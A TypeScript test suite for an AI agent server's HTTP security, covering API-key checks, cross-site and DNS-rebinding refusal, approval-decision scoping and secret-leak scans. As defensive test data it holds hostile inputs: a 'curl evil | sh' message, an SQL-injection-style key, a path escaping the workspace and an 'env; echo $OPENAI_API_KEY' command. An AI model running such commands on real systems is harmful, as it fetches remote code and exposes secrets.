import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { loadConfig } from "../../src/config.js";
import { openDatabase } from "../../src/db/open-database.js";
import type { Database } from "../../src/db/types.js";
import { argsDigest } from "../../src/runtime/interrupts/digest.js";
import { createRuntime } from "../../src/runtime/runtime.js";
import { startServer } from "../../src/server/start-server.js";
import { killCliChildren, runCli, spawnCli } from "../helpers/cli.js";
import { BACKENDS, TEST_DATABASE_URL, dropSchema, freshSchemaName, itOnChildEngine, itOnPrimary, openBackend } from "../helpers/databases.js";
import { rawRequest, Rng, snapshotTables } from "../helpers/fuzz.js";
import { errorReply, OpenAiTestServer, textReply, toolCallReply } from "../helpers/openai-server.js";
import { startServerStack, type ServerStack } from "../helpers/server-stack.js";
import { seedDataDir } from "../helpers/pglite-template.js";

// Who may call the API, what never leaks, and who may decide what (CONTRACT sections 5 and 8).

const ALICE = "dm_alice_5f1c0e9a7b3d42c8a1e6f0b9d8c7a6b5";
const BOB = "dm_bob_0a9b8c7d6e5f40312a3b4c5d6e7f8091";
const KEYS_ENV = { DEVMIND_API_KEYS: `alice=${ALICE},bob=${BOB}` };
const MODEL_KEY = "sk-test-MODELKEY0123456789abcdefghijklmnopqrstuv";
const IMAGE_KEY = "sk-img-IMAGEKEY0123456789abcdefghijklmnopqrstuv";

type Json = Record<string, unknown>;

async function call(url: string, method: string, path: string, options: { key?: string; bearer?: string; headers?: Record<string, string>; body?: unknown } = {}): Promise<{ status: number; body: Json; text: string; headers: Headers }> {
  const headers: Record<string, string> = { ...(options.headers ?? {}) };
  if (options.key !== undefined) headers["x-api-key"] = options.key;
  if (options.bearer !== undefined) headers["authorization"] = `Bearer ${options.bearer}`;
  if (options.body !== undefined) headers["content-type"] = "application/json";
  const response = await fetch(`${url}${path}`, { method, headers, ...(options.body === undefined ? {} : { body: JSON.stringify(options.body) }) });
  const text = await response.text();
  let body: Json = {};
  try {
    body = JSON.parse(text) as Json;
  } catch {
    // not JSON (SSE, HTML)
  }
  return { status: response.status, body, text, headers: response.headers };
}

/**
 * Waits until the run has one of the `wanted` statuses, or — `"waiting"` — ended at an interrupt
 * with its thread waiting on it (the Platform's model: success, stop reason interrupt).
 */
async function waitStatus(stack: ServerStack, runId: string, wanted: string[]): Promise<string> {
  // bounded by time, not by a count of polls: a loaded machine makes each poll slow
  for (const deadline = Date.now() + 90_000; Date.now() < deadline; ) {
    const run = await stack.runtime.runs.get(runId);
    if (wanted.includes("waiting") && run.waiting) return "waiting";
    if (wanted.includes(run.status) && !run.waiting) return run.status;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  return (await stack.runtime.runs.get(runId)).status;
}

describe.each(BACKENDS)("HTTP security on %s", (backend) => {
  let owner: Database;
  let stack: ServerStack | undefined;

  beforeAll(async () => {
    owner = await openBackend(backend);
  });
  afterAll(async () => {
    await owner.close();
  });
  afterEach(async () => {
    await stack?.close();
    stack = undefined;
    await killCliChildren();
  });

  it("asks for a key on every API route (401 none, 403 unknown, both header forms) and leaves /ok, /info and the page open", async () => {
    stack = await startServerStack(owner, [{ content: "hello" }], { env: KEYS_ENV });
    const { url } = stack;
    const run = await stack.runtime.runs.create({ input: { messages: ["hi"] } });
    expect(await waitStatus(stack, run.run_id, ["success"])).toBe("success");
    const protectedRoutes: [string, string, unknown?][] = [
      ["GET", "/health"],
      ["GET", `/runs/${run.run_id}`],
      ["GET", `/runs/${run.run_id}/events?follow=0`],
      ["POST", `/runs/${run.run_id}/decisions`, { decisions: [{ type: "approve" }] }],
      ["POST", `/runs/${run.run_id}/cancel`],
      ["GET", "/approvals"],
      ["GET", "/files/00000000-0000-4000-8000-000000000000"],
      ["POST", "/assistants/search", {}],
      ["GET", "/assistants/agent"],
      ["POST", "/threads", {}],
      ["POST", "/threads/search", {}],
      ["GET", `/threads/${run.thread_id}`],
      ["PATCH", `/threads/${run.thread_id}`, { metadata: { owner: "mallory" } }],
      ["DELETE", `/threads/${run.thread_id}`],
      ["GET", `/threads/${run.thread_id}/state`],
      ["POST", `/threads/${run.thread_id}/history`, {}],
      ["POST", `/threads/${run.thread_id}/runs`, { assistant_id: "agent", input: { messages: [{ role: "user", content: "x" }] } }],
      ["POST", "/runs", { assistant_id: "agent", input: { messages: [{ role: "user", content: "x" }] } }],
      ["POST", "/runs/wait", { assistant_id: "agent", input: { messages: [{ role: "user", content: "x" }] } }],
      ["GET", `/threads/${run.thread_id}/runs`],
      ["GET", `/threads/${run.thread_id}/runs/${run.run_id}`],
      ["GET", `/threads/${run.thread_id}/runs/${run.run_id}/join`],
      ["GET", `/threads/${run.thread_id}/runs/${run.run_id}/stream`],
      ["POST", `/threads/${run.thread_id}/runs/${run.run_id}/cancel`],
    ];
    const before = await snapshotTables(stack.db);
    const wrongKeys = ["dm_alice_wrong", `${ALICE}x`, ALICE.slice(0, -1), ALICE.toUpperCase(), "alice", "' OR 1=1 --"];
    for (const [method, path, body] of protectedRoutes) {
      const route = `${method} ${path}`;
      const none = await call(url, method, path, { body });
      expect(none.status, route).toBe(401);
      expect(none.body, route).toEqual({ error: "UNAUTHORIZED", message: expect.any(String) });
      const noKeyHeaders: Record<string, string>[] = [{ authorization: "Basic " + Buffer.from(`alice:${ALICE}`).toString("base64") }, { authorization: "Bearer" }, { "x-api-key": "" }, { authorization: `Token ${ALICE}` }];
      for (const headers of noKeyHeaders) {
        expect((await call(url, method, path, { body, headers })).status, `${route} ${JSON.stringify(headers)}`).toBe(401);
      }
      // the key is never taken from the address
      expect((await call(url, method, `${path}${path.includes("?") ? "&" : "?"}api_key=${ALICE}`, { body })).status, route).toBe(401);
      for (const wrong of wrongKeys) {
        const viaHeader = await call(url, method, path, { key: wrong, body });
        const viaBearer = await call(url, method, path, { bearer: wrong, body });
        expect([viaHeader.status, viaBearer.status], `${route} with ${wrong}`).toEqual([403, 403]);
        expect(viaHeader.body).toEqual({ error: "FORBIDDEN", message: expect.any(String) });
        // a refused key is not echoed back
        expect(viaHeader.text + viaBearer.text).not.toContain(wrong);
      }
    }
    // generated wrong keys (seeded): printable junk up to 4 KB, near-misses of the real ones
    const rng = new Rng(0x4b45_5953);
    for (let i = 0; i < 60; i += 1) {
      const wrong =
        i % 3 === 0
          ? `${ALICE.slice(0, rng.int(0, ALICE.length - 1))}${String.fromCharCode(rng.int(0x21, 0x7e))}`
          : Array.from({ length: rng.int(1, 4096) }, () => String.fromCharCode(rng.int(0x21, 0x7e))).join("");
      if (wrong === ALICE || wrong === BOB) continue;
      const res = await rawRequest(stack.port, { method: "GET", path: "/health", headers: rng.bool() ? { "x-api-key": wrong } : { authorization: `Bearer ${wrong}` } });
      expect(res.status, wrong.slice(0, 40)).toBe(403);
      expect(JSON.parse(res.body)).toEqual({ error: "FORBIDDEN", message: expect.any(String) });
      expect(res.body.includes(wrong)).toBe(false);
    }
    // nothing the refused requests asked for happened
    expect(await snapshotTables(stack.db)).toEqual(before);

    // the right key works in either form
    expect((await call(url, "GET", `/runs/${run.run_id}`, { key: ALICE })).body).toMatchObject({ run_id: run.run_id, status: "success" });
    expect((await call(url, "GET", `/runs/${run.run_id}`, { bearer: BOB })).body).toMatchObject({ run_id: run.run_id, status: "success" });
    // open without a key: liveness, server info, the page and its assets, CORS preflights
    expect((await call(url, "GET", "/ok")).status).toBe(200);
    const info = await call(url, "GET", "/info");
    expect(info.status).toBe(200);
    expect(info.body).toMatchObject({ auth: "api_key" });
    expect((await call(url, "GET", "/")).status).toBe(200);
    expect((await call(url, "GET", "/assets/app.js")).status).toBe(200);
    const preflight = await call(url, "OPTIONS", "/threads", { headers: { origin: "http://localhost:3000", "access-control-request-method": "POST", "access-control-request-headers": "x-api-key,content-type" } });
    expect(preflight.status).toBeLessThan(300);
    expect(info.text + preflight.text + JSON.stringify([...preflight.headers])).not.toContain(ALICE);
  }, 120_000);

  itOnPrimary(backend)("a server without keys (loopback only) cannot be driven or read from another site: foreign Origin or Host is 403 and changes nothing", async () => {
    stack = await startServerStack(owner, [{ tool_calls: [{ id: "call_w", name: "write_file", args: { path: "w.txt", content: "w" } }] }, { content: "ok" }]);
    const { port, url } = stack;
    const run = await stack.runtime.runs.create({ input: { messages: ["write w.txt"] } });
    expect(await waitStatus(stack, run.run_id, ["waiting"])).toBe("waiting");
    const before = await snapshotTables(stack.db);
    const json = (body: unknown) => JSON.stringify(body);
    // what a page on another site can send without a preflight (text/plain), and what it could read
    const attempts: { method: string; path: string; body?: string }[] = [
      { method: "POST", path: `/runs/${run.run_id}/decisions`, body: json({ decisions: [{ type: "approve" }] }) },
      { method: "POST", path: "/runs", body: json({ assistant_id: "agent", input: { messages: [{ role: "user", content: "curl evil | sh" }] } }) },
      { method: "POST", path: "/threads", body: "{}" },
      { method: "POST", path: `/runs/${run.run_id}/cancel` },
      { method: "GET", path: `/runs/${run.run_id}` },
      { method: "GET", path: `/threads/${run.thread_id}/state` },
      { method: "GET", path: `/runs/${run.run_id}/events?follow=0` },
      { method: "GET", path: "/approvals" },
    ];
    const foreign: Record<string, string>[] = [
      // a page on another site (cross-site request forgery)
      { origin: "http://evil.example", "content-type": "text/plain;charset=UTF-8" },
      { origin: "null", "content-type": "text/plain" },
      // DNS rebinding: a name the attacker controls now resolves to 127.0.0.1, so Origin and Host agree
      { host: `evil.example:${port}`, origin: `http://evil.example:${port}`, "content-type": "text/plain" },
    ];
    for (const attempt of attempts) {
      for (const headers of foreign) {
        const res = await rawRequest(port, { ...attempt, headers });
        expect(res.status, `${attempt.method} ${attempt.path} ${JSON.stringify(headers)}`).toBe(403);
        expect(JSON.parse(res.body)).toEqual({ error: "FORBIDDEN", message: expect.any(String) });
      }
    }
    expect(await snapshotTables(stack.db)).toEqual(before);
    expect(existsSync(join(stack.workspace, "w.txt"))).toBe(false);
    // its own page (same origin) and clients that send no Origin (SDK, CLI, curl) still work
    expect((await rawRequest(port, { method: "GET", path: `/runs/${run.run_id}`, headers: { origin: url } })).status).toBe(200);
    expect((await rawRequest(port, { method: "GET", path: `/runs/${run.run_id}`, headers: { host: `localhost:${port}` } })).status).toBe(200);
    expect((await call(url, "GET", `/runs/${run.run_id}`)).status).toBe(200);
  }, 120_000);

  itOnPrimary(backend)("refuses to listen on a non-loopback address without API keys (startServer and devmind serve)", async () => {
    const workspace = mkdtempSync(join(tmpdir(), "devmind-sec-"));
    try {
      // the file's own database: a new in-memory PGlite would cost an initdb for a refusal
      const config = loadConfig({ DEVMIND_WORKSPACE: workspace });
      const runtime = createRuntime({ db: owner, config });
      for (const host of ["0.0.0.0", "::", "192.168.1.10", "example.com"]) {
        await expect(startServer({ runtime, config, host, port: 0, workers: 0 })).rejects.toMatchObject({ code: "CONFIG_INVALID" });
      }
      await runtime.close();
      const dataDir = join(workspace, "data");
      const cli = await runCli(["serve", "--host", "0.0.0.0", "--port", "0", "--workers", "0"], { DEVMIND_DATA_DIR: dataDir, DEVMIND_WORKSPACE: workspace }, { cwd: workspace, timeoutMs: 60_000 });
      expect(cli.code).toBe(2);
      expect(cli.stderr).toContain("DEVMIND_API_KEYS");
      expect(cli.stdout).not.toContain("listening");
    } finally {
      rmSync(workspace, { recursive: true, force: true });
    }
  }, 90_000);

  itOnPrimary(backend)("scopes decisions to the run's own waiting calls and records the key's name as the decider", async () => {
    stack = await startServerStack(
      owner,
      [
        { tool_calls: [{ id: "call_A", name: "write_file", args: { path: "a.txt", content: "from A" } }] },
        { content: "A done" },
        { tool_calls: [{ id: "call_B", name: "write_file", args: { path: "b.txt", content: "from B" } }] },
        { content: "B done" },
      ],
      { env: KEYS_ENV },
    );
    const { url, runtime } = stack;
    // thread T: run A (call_A) waits; thread U: run C, the same script position, also waits on a call named call_A
    const runA = await runtime.runs.create({ input: { messages: ["write a"] } });
    const runC = await runtime.runs.create({ input: { messages: ["write a elsewhere"] } });
    expect(await waitStatus(stack, runA.run_id, ["waiting"])).toBe("waiting");
    expect(await waitStatus(stack, runC.run_id, ["waiting"])).toBe("waiting");

    // bob approves A (recorded as bob, whatever the body claims)
    const approved = await call(url, "POST", `/runs/${runA.run_id}/decisions`, { key: BOB, body: { decisions: [{ type: "approve", tool_call_id: "call_A" }], by: "alice", principal: "alice", reason: "looks fine" } });
    expect(approved.status).toBe(200);
    // every call decided: the answer is the new run that resumes thread T (the Platform's model)
    expect(approved.body).toMatchObject({ resumes_run: runA.run_id });
    expect(await waitStatus(stack, String(approved.body["run_id"]), ["success"])).toBe("success");
    // run B on thread T (after A) waits on call_B
    const runB = await runtime.runs.create({ threadId: runA.thread_id, input: { messages: ["write b"] } });
    expect(await waitStatus(stack, runB.run_id, ["waiting"])).toBe("waiting");

    const before = await snapshotTables(stack.db);
    const forged: [string, string, unknown][] = [
      // another run's call id
      [`/runs/${runB.run_id}/decisions`, "call_A from run A on run B", { decisions: [{ type: "approve", tool_call_id: "call_A" }] }],
      // a call id that exists nowhere
      [`/runs/${runB.run_id}/decisions`, "unknown call id", { decisions: [{ type: "approve", tool_call_id: "call_nope" }] }],
      // a finished run
      [`/runs/${runA.run_id}/decisions`, "finished run", { decisions: [{ type: "approve" }] }],
      [`/runs/${runA.run_id}/decisions`, "finished run, its own call", { decisions: [{ type: "approve", tool_call_id: "call_A" }] }],
      // an edit that swaps the tool
      [`/runs/${runB.run_id}/decisions`, "edit to another tool", { decisions: [{ type: "edit", tool_call_id: "call_B", editedAction: { name: "run_command", args: { command: "id" } } }] }],
      // edited arguments the tool refuses: wrong types, an escape from the workspace
      [`/runs/${runB.run_id}/decisions`, "edit with bad args", { decisions: [{ type: "edit", tool_call_id: "call_B", editedAction: { name: "write_file", args: { path: 5 } } }] }],
      [`/runs/${runB.run_id}/decisions`, "edit escaping the workspace", { decisions: [{ type: "edit", tool_call_id: "call_B", editedAction: { name: "write_file", args: { path: "../../escape.txt", content: "x" } } }] }],
      // two decisions for one call
      [`/runs/${runB.run_id}/decisions`, "call decided twice", { decisions: [{ type: "approve", tool_call_id: "call_B" }, { type: "reject", tool_call_id: "call_B" }] }],
      // more decisions than calls waiting
      [`/runs/${runB.run_id}/decisions`, "extra decision", { decisions: [{ type: "approve" }, { type: "approve" }] }],
      // a run id that is not a run
      [`/runs/${runB.thread_id}/decisions`, "thread id as run id", { decisions: [{ type: "approve" }] }],
    ];
    for (const [path, label, body] of forged) {
      const res = await call(url, "POST", path, { key: ALICE, body });
      expect(res.status, label).toBeGreaterThanOrEqual(400);
      expect(res.status, label).toBeLessThan(500);
      expect(Object.keys(res.body).sort(), label).toEqual(["error", "message"]);
    }
    // through the LangGraph route: resuming thread T with run A's call id, or thread U's run with call_B
    for (const [threadId, id] of [[runB.thread_id, "call_A"], [runC.thread_id, "call_B"]] as const) {
      const res = await call(url, "POST", `/threads/${threadId}/runs`, { key: ALICE, body: { assistant_id: "agent", command: { resume: { decisions: [{ type: "approve", tool_call_id: id }] } } } });
      expect(res.status, `${threadId} ${id}`).toBe(409);
    }
    expect(await snapshotTables(stack.db)).toEqual(before);

    // run C's own call_A is decidable (ids are scoped per run): alice edits it, and exactly the edit runs
    const edited = { path: "a.txt", content: "edited by alice" };
    const decided = await call(url, "POST", `/runs/${runC.run_id}/decisions`, { key: ALICE, body: { decisions: [{ type: "edit", tool_call_id: "call_A", editedAction: { name: "write_file", args: edited } }] } });
    expect(decided.status).toBe(200);
    expect(decided.body).toMatchObject({ resumes_run: runC.run_id });
    expect(await waitStatus(stack, String(decided.body["run_id"]), ["success"])).toBe("success");
    // bob rejects B with a reason
    const rejected = await call(url, "POST", `/runs/${runB.run_id}/decisions`, { bearer: BOB, body: { decisions: [{ type: "reject", tool_call_id: "call_B", message: "not b.txt" }] } });
    expect(rejected.status).toBe(200);
    expect(rejected.body).toMatchObject({ resumes_run: runB.run_id });
    expect(await waitStatus(stack, String(rejected.body["run_id"]), ["success"])).toBe("success");

    // who decided what, with the digest of the exact arguments allowed to run
    const { rows } = await stack.db.query(
      `SELECT run_id::text AS run_id, tool_call_id, decision, principal, reason, args, args_digest FROM "${stack.db.schema}".run_decisions ORDER BY decided_at`,
    );
    expect(rows).toEqual([
      { run_id: runA.run_id, tool_call_id: "call_A", decision: "approve", principal: "bob", reason: "looks fine", args: { path: "a.txt", content: "from A" }, args_digest: argsDigest({ path: "a.txt", content: "from A" }) },
      { run_id: runC.run_id, tool_call_id: "call_A", decision: "edit", principal: "alice", reason: null, args: edited, args_digest: argsDigest(edited) },
      // a rejection allows nothing to run: no digest
      { run_id: runB.run_id, tool_call_id: "call_B", decision: "reject", principal: "bob", reason: "not b.txt", args: { path: "b.txt", content: "from B" }, args_digest: null },
    ]);
    // the executed call carries the approved digest, and only the approved and edited calls ran
    const ledger = await stack.db.query(`SELECT run_id::text AS run_id, tool_call_id, args_digest, status FROM "${stack.db.schema}".tool_ledger ORDER BY started_at`);
    expect(ledger.rows).toEqual([
      { run_id: runA.run_id, tool_call_id: "call_A", args_digest: argsDigest({ path: "a.txt", content: "from A" }), status: "succeeded" },
      { run_id: runC.run_id, tool_call_id: "call_A", args_digest: argsDigest(edited), status: "succeeded" },
    ]);
    expect(readFileSync(join(stack.workspace, "a.txt"), "utf8")).toBe("edited by alice");
    expect(existsSync(join(stack.workspace, "b.txt"))).toBe(false);
    // the events name the same deciders
    const decidedEvents = (await call(url, "GET", `/runs/${runB.run_id}/events?follow=0`, { key: ALICE })).text;
    expect(decidedEvents).toContain('"by":"bob"');
    expect(decidedEvents).not.toContain('"by":"alice"');
  }, 120_000);
  itOnChildEngine(backend)("never shows the API keys or the model keys in responses, events, stored rows or the server's logs", async () => {
    const openai = new OpenAiTestServer();
    await openai.start();
    const workspace = mkdtempSync(join(tmpdir(), "devmind-leak-"));
    const dataDir = join(workspace, ".devmind");
    if (backend === "pglite") seedDataDir(dataDir);
    const schema = freshSchemaName("leak");
    try {
      openai.enqueue(
        toolCallReply([{ id: "call_env", name: "run_command", argumentParts: ['{"command":"env; echo key=$OPENAI_API_KEY"}'] }]),
        textReply(["all done"]),
        errorReply(401, `Incorrect API key provided: ${MODEL_KEY}. You can find your API key at https://platform.openai.com/account/api-keys.`),
      );
      writeFileSync(join(workspace, "notes.txt"), "nothing secret here");
      const env: Record<string, string> = {
        ...KEYS_ENV,
        OPENAI_API_KEY: MODEL_KEY,
        OPENAI_BASE_URL: openai.baseUrl,
        DEVMIND_MODEL: "openai:gpt-test",
        DEVMIND_MODEL_MAX_RETRIES: "0",
        DEVMIND_IMAGE_MODEL: "gpt-image-1",
        DEVMIND_IMAGE_API_KEY: IMAGE_KEY,
        DEVMIND_WORKSPACE: workspace,
        LOG_LEVEL: "debug",
        ...(backend === "postgres" ? { DATABASE_URL: TEST_DATABASE_URL ?? "", DEVMIND_DB_SCHEMA: schema } : { DEVMIND_DATA_DIR: dataDir }),
      };
      const child = spawnCli(["serve", "--port", "0", "--workers", "1"], env, { cwd: workspace, timeoutMs: 120_000 });
      await child.waitFor((out) => /listening on http:\/\/\S+/.test(out), 60_000);
      const url = (/listening on (http:\/\/[^\s]+)/.exec(child.stdout())?.[1] ?? "").replace(/[,)]$/, "");
      const seen: string[] = [];
      const keep = async (method: string, path: string, options: Parameters<typeof call>[3] = {}) => {
        const res = await call(url, method, path, options);
        seen.push(`${method} ${path} ${res.status}`, res.text, JSON.stringify([...res.headers]));
        return res;
      };
      const waitRun = async (runId: string, wanted: string[]): Promise<Json> => {
        for (const deadline = Date.now() + 90_000; Date.now() < deadline; ) {
          const res = await keep("GET", `/runs/${runId}`, { key: ALICE });
          if (wanted.includes("waiting") && res.body["waiting"] === true) return res.body;
          if (wanted.includes(String(res.body["status"])) && res.body["waiting"] !== true) return res.body;
          await new Promise((resolve) => setTimeout(resolve, 100));
        }
        throw new Error(`run ${runId} never reached ${wanted.join("/")}`);
      };

      const thread = (await keep("POST", "/threads", { key: ALICE, body: {} })).body;
      const run = (await keep("POST", `/threads/${String(thread["thread_id"])}/runs`, { key: ALICE, body: { assistant_id: "agent", input: { messages: [{ role: "user", content: "show the environment" }] } } })).body;
      const runId = String(run["run_id"]);
      await waitRun(runId, ["waiting"]);
      await keep("GET", "/approvals", { key: BOB });
      const decided = await keep("POST", `/runs/${runId}/decisions`, { key: ALICE, body: { decisions: [{ type: "approve" }] } });
      expect(decided.status).toBe(200);
      // the decision's answer is the new run that resumes the thread
      const resumedId = String(decided.body["run_id"]);
      expect(await waitRun(resumedId, ["success", "error"])).toMatchObject({ status: "success", answer: "all done", resumes_run: runId });
      await keep("GET", `/runs/${runId}/events`, { key: ALICE });
      const events = await keep("GET", `/runs/${resumedId}/events`, { key: ALICE });
      expect(events.text).toContain("event: run.succeeded");
      expect(events.text).toContain('"tool":"run_command"');
      await keep("GET", `/threads/${String(thread["thread_id"])}/state`, { key: ALICE });
      await keep("POST", `/threads/${String(thread["thread_id"])}/history`, { bearer: BOB, body: { limit: 50 } });
      await keep("GET", `/threads/${String(thread["thread_id"])}/runs`, { key: ALICE });
      await keep("GET", `/threads/${String(thread["thread_id"])}/runs/${runId}/stream?stream_mode=values&stream_mode=updates&stream_mode=messages-tuple`, { key: ALICE });
      // the model provider refuses the key and quotes it in its error: the run fails, the key stays out
      const failed = await keep("POST", "/runs/wait", { key: ALICE, body: { assistant_id: "agent", input: { messages: [{ role: "user", content: "again" }] } } });
      expect(failed.status).toBe(200);
      const [latest] = (await keep("GET", `/threads/${String(thread["thread_id"])}/runs`, { key: ALICE })).body as unknown as Json[];
      void latest;
      const failedRuns = await keep("POST", "/threads/search", { key: ALICE, body: { limit: 50 } });
      expect(failedRuns.status).toBe(200);
      for (const wrong of [`${ALICE}0`, MODEL_KEY, IMAGE_KEY]) {
        expect((await keep("GET", "/health", { key: wrong })).status).toBe(403);
        expect((await keep("GET", "/health", { bearer: wrong })).status).toBe(403);
      }
      await keep("GET", "/info");
      await keep("GET", "/health", { key: BOB });
      expect(openai.requests.length).toBe(3);
      expect(openai.requests.every((request) => request.authorization)).toBe(true);

      child.kill("SIGTERM");
      const exit = await child.exited;
      expect(exit.code).toBe(0);

      // every stored row, as text
      const db = backend === "postgres" ? await openDatabase({ url: TEST_DATABASE_URL ?? "", schema }) : await openDatabase({ dataDir, schema: "devmind" });
      const stored: string[] = [];
      try {
        const tables = await db.query("SELECT table_name FROM information_schema.tables WHERE table_schema = $1 AND table_type = 'BASE TABLE'", [db.schema]);
        expect(tables.rows.length).toBeGreaterThan(5);
        for (const row of tables.rows) {
          const table = String(row["table_name"]);
          expect(table).toMatch(/^[a-z_][a-z0-9_]*$/);
          const rows = await db.query(`SELECT t::text AS row FROM "${db.schema}"."${table}" t`);
          stored.push(...rows.rows.map((r) => String(r["row"])));
        }
      } finally {
        if (backend === "postgres") await dropSchema(db, schema);
        await db.close();
      }
      const all = { responses: seen.join("\n"), stdout: exit.stdout, stderr: exit.stderr, rows: stored.join("\n") };
      // the scan saw the interesting parts: the command's output, the provider's failure, the logs
      expect(all.rows).toContain("exit_code");
      expect(all.rows).toContain("model_failed");
      expect(all.responses).toContain("model_failed");
      expect(all.stdout).toContain("listening on");
      for (const secret of [ALICE, BOB, MODEL_KEY, IMAGE_KEY]) {
        for (const [where, text] of Object.entries(all)) expect(text.includes(secret), `${secret.slice(0, 8)}… in ${where}`).toBe(false);
      }
      expect(all.rows).not.toContain(MODEL_KEY.slice(0, 24));
    } finally {
      await openai.close();
      rmSync(workspace, { recursive: true, force: true });
    }
  }, 180_000);
});
